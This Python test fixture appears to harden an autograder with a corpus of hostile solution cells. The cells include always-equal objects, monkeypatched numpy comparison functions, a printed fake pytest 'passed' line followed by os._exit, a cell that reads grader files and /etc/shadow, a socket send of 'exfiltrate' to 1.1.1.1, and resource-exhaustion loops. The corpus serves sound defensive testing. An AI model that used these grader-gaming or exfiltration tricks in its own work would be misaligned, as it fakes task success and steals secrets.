"""A first hostile corpus: each case replaces one solution cell and states its verdict.

Verdict for every case: the attacked task scores 0, every other task keeps full marks,
and the next (honest) submission in the same batch is graded normally.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    key: str
    task: str
    source: str
    verdict: str = "task scores 0, others unaffected"


CASES = [
    Hostile(
        "always_equal_object",
        "neuron",
        """
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __array__(self, *args, **kwargs):
        raise TypeError
    shape = (40,)

def neuron(w, X, activation="step"):
    return AlwaysEqual()
""",
    ),
    Hostile(
        "ndarray_subclass_always_equal",
        "neuron",
        """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __array_function__(self, *args, **kwargs):
        return True

def neuron(w, X, activation="step"):
    return np.zeros(len(X)).view(Liar)
""",
    ),
    Hostile(
        "allclose_monkeypatch",
        "bce_sgd_step",
        """
import numpy
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.isclose = lambda a, b, *x, **k: numpy.ones_like(a, dtype=bool)

def bce_sgd_step(w, x, y, eta):
    return w, 0.5, 0.0
""",
    ),
    Hostile(
        "fake_passed_and_os_exit",
        "perceptron_train",
        """
import os, sys

def perceptron_train(X, y, eta=1.0, max_epochs=100):
    print("=== 3 passed in 0.01s ===")
    sys.stdout.flush()
    os._exit(0)
""",
    ),
    Hostile(
        "read_graders_and_references",
        "xor_certificate",
        """
import glob, os

def xor_certificate():
    stolen = []
    for pattern in ["/work/**/graders/**/*.py", "/work/**/solutions/*.py", "/proc/1/cmdline", "/root/*", "/etc/shadow"]:
        for path in glob.glob(pattern, recursive=True):
            try:
                stolen.append(open(path).read())
            except OSError:
                pass
    import autograder.graders  # must fail: the package is not in the sandbox
    return np.array([-1.0, 1.0, 1.0, -1.0])
""",
    ),
    Hostile(
        "infinite_loop_in_call",
        "parity_certificate",
        """
def parity_certificate(n):
    while True:
        pass
""",
    ),
    Hostile(
        "memory_bomb",
        "xor_net_weights",
        """
def xor_net_weights():
    hog = []
    while True:
        hog.append(bytearray(100 << 20))
""",
    ),
    Hostile(
        "network_access",
        "mlp_xor_train",
        """
import socket

def mlp_xor_train(W1, b1, W2, b2, eta=0.5, epochs=2000):
    socket.getaddrinfo("example.org", 80)
    socket.create_connection(("1.1.1.1", 80), timeout=2).sendall(b"exfiltrate")
    return (W1, b1, W2, b2), np.zeros(epochs)
""",
    ),
    Hostile(
        "infinite_loop_at_module_level",
        "neuron",
        """
while True:
    pass
""",
    ),
]
